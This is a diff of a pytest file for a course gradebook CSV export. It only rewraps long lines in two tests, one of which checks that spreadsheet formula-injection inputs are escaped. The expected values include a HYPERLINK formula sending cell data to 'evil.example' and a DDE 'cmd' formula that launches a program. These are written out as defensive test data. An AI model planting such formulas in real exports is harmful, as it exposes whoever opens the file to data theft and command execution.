@@ -103,7 +103,11 @@ def test_the_csv_reads_back_cell_for_cell(gradebook_course, tmp_path):
     assert flagged[2:4] == ["Two\r\nLines", "Line\nBreak"]
     assert flagged[5:] == ["", num(max_score[OWN]), "needs grading", num(scores["lines"]), f"{OWN} (flagged)"]
 
-    assert body[(OWN, "formula")][2:5] == ["'+1+1", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=cmd|' /C calc'!A0"]
+    assert body[(OWN, "formula")][2:5] == [
+        "'+1+1",
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "'=cmd|' /C calc'!A0",
+    ]
     assert body[(OWN, "minus")][2:5] == ["'@SUM(A1:A9)", "'-2+3", "'@evil.example"]
     assert body[(OWN, "tab")][2:5] == ["'\rReturned", "'\tTabbed", "tab@example.org"]
     assert body[(OWN, "'=1+2")][1:4] == ["'=1+2", "Formula", "Id"]
@@ -182,6 +186,8 @@ def test_no_gradebook_is_one_sentence_and_none_is_created(tmp_path):
     from helpers import copy_course
 
     root = copy_course(tmp_path / "course")
-    with pytest.raises(CourseError, match="no gradebook in .*: import the roster and grade submissions before exporting"):
+    with pytest.raises(
+        CourseError, match="no gradebook in .*: import the roster and grade submissions before exporting"
+    ):
         export_grades(open_course(root), tmp_path / "g.csv")
     assert not (root / "gradebook.db").exists() and not (tmp_path / "g.csv").exists()
